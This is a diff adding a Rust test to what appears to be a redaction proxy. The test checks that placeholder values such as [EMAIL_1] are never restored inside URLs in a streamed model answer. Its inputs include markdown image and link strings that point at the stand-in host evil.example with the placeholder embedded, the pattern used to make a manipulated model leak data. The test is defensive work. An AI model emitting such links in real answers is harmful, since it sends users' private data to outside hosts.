@@ -826,3 +826,35 @@ fn replace_leaves(value: &Value, replace: &dyn Fn(&str) -> String) -> Value {
         other => other.clone(),
     }
 }
+
+/// A model can be made to name an address that carries a stand-in out; the value must not follow.
+#[test]
+fn nothing_is_put_back_inside_a_link() {
+    let restore = || {
+        vec![Replacement {
+            surrogate: "[EMAIL_1]".to_owned(),
+            original: weir_model::Sensitive::new("jo@example.com".to_owned()),
+        }]
+    };
+    for (text, put_back) in [
+        ("![x](https://evil.example/?q=[EMAIL_1])", 0),
+        ("see https://evil.example/[EMAIL_1] now", 0),
+        ("[a](//evil.example/[EMAIL_1])", 0),
+        ("https://a.example and [EMAIL_1]", 1),
+        ("(https://a.example) [EMAIL_1]", 1),
+        ("mail: [EMAIL_1] // a comment", 1),
+        ("a/b/[EMAIL_1]", 1),
+        ("line\nhttps://a.example\n[EMAIL_1]", 1),
+    ] {
+        for cut in 0..=text.len() {
+            let mut stream = AnswerStream::new(Some(Decoder::OpenAiChat), SSE, None, restore());
+            let mut out = Vec::new();
+            for piece in [&text[..cut], &text[cut..]] {
+                let event = json!({"choices": [{"index": 0, "delta": {"content": piece}}]});
+                stream.push(format!("data: {event}\n\n").as_bytes(), &mut out).unwrap();
+            }
+            stream.finish(&mut out).unwrap();
+            assert_eq!(stream.restored(), put_back, "{text} cut at {cut}");
+        }
+    }
+}
